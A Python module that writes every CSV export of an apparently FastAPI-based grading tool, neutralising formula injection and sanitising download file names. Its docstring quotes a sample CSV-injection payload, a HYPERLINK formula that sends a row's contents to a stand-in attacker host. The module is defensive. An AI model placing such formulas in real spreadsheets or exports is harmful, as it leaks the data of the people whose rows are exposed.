"""The one CSV writer of every export, and safe download file names.

Formula injection (CSV injection): a spreadsheet opening a CSV runs a cell that starts with
`=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?"&A2,"Click")` leaks the
row when clicked), and a leading tab or carriage return hides such a start from naive filters.
Our cells carry other people's text (graders' rationales, adjudication notes, case ids, run
names), so every export goes through `csv_text`, which neutralises a *text* cell starting with
one of those characters by prefixing a single quote (OWASP's advice): the spreadsheet shows the
text, the quote tells a reader it was escaped.

Decision (docs/security.md, "CSV exports cannot carry formulas"): only text is neutralised.
A value the code holds as a number (int, float, Decimal) is written as it is, so a negative
delta stays a number a spreadsheet can sum. A text cell that is wholly a plain decimal number
(`-3.2`, `+1`, `42`: how figures formatted to their unit's decimals arrive) is also left alone:
a spreadsheet reads it as that number and nothing else, so it can carry no formula. Anything
else starting with a trigger (`-2+3`, `-1e5`, `@SUM(A1)`, ` =x` after a tab) gets the quote.

Download names: a run name goes into `Content-Disposition`. `attachment_headers` keeps an
ASCII-safe `filename` (letters, digits, `.`, `_`, `-`; anything else becomes `_`) and adds RFC
6266's `filename*` (UTF-8, percent-encoded) when the real name has more than ASCII; quotes,
newlines, slashes, backslashes and control characters never reach either.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from urllib.parse import quote

from fastapi.responses import Response

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
_UNSAFE_ASCII = re.compile(r"[^A-Za-z0-9._-]+")
# Characters a file name never carries: controls, separators of paths, quotes, and ; (a header separator).
_UNSAFE_ANY = re.compile(r'[\x00-\x1f\x7f/\\"\';:*?<>|]+')
MAX_NAME = 150

Cell = str | int | float | Decimal | bool | None


def safe_cell(value: Cell) -> str | int | float | Decimal:
    """Return a cell as the writer writes it: None empty, numbers as numbers, formula-looking text quoted."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):  # bool too: written True/False, as csv always did
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """Return CSV text of a header and rows, every cell through `safe_cell`."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return buf.getvalue()


def csv_dict_text(columns: Sequence[str], rows: Iterable[Mapping[str, Cell]]) -> str:
    """Return CSV text of rows given as mappings, in `columns` order (a missing key is an empty cell)."""
    return csv_text(columns, ([row.get(c) for c in columns] for row in rows))


def safe_filename(name: str) -> str:
    """Return a download name with no path, quote, control or header-breaking characters (Unicode kept)."""
    name = unicodedata.normalize("NFC", name)
    cleaned = re.sub(r"\.{2,}", ".", _UNSAFE_ANY.sub("_", name)).strip(" .") or "download"
    stem, dot, ext = cleaned.rpartition(".")
    if dot and len(cleaned) > MAX_NAME:
        return stem[: MAX_NAME - len(ext) - 1] + "." + ext
    return cleaned[:MAX_NAME]


def ascii_filename(name: str) -> str:
    """Return the ASCII fallback of a download name: accents dropped, anything else outside [A-Za-z0-9._-] as _."""
    plain = unicodedata.normalize("NFKD", safe_filename(name)).encode("ascii", "ignore").decode()
    plain = re.sub(r"\.{2,}", ".", re.sub(r"_{2,}", "_", _UNSAFE_ASCII.sub("_", plain)))
    return plain.strip("._") or "download"


def attachment_headers(filename: str) -> dict[str, str]:
    """Return the Content-Disposition header of a download (RFC 6266: filename, and filename* beyond ASCII)."""
    full, fallback = safe_filename(filename), ascii_filename(filename)
    value = f'attachment; filename="{fallback}"'
    if full != fallback:
        value += "; filename*=UTF-8''" + quote(full, safe="")
    return {"Content-Disposition": value}


def csv_response(body: str, filename: str) -> Response:
    """Return CSV text as a download under a safe file name."""
    return Response(body, media_type="text/csv; charset=utf-8", headers=attachment_headers(filename))
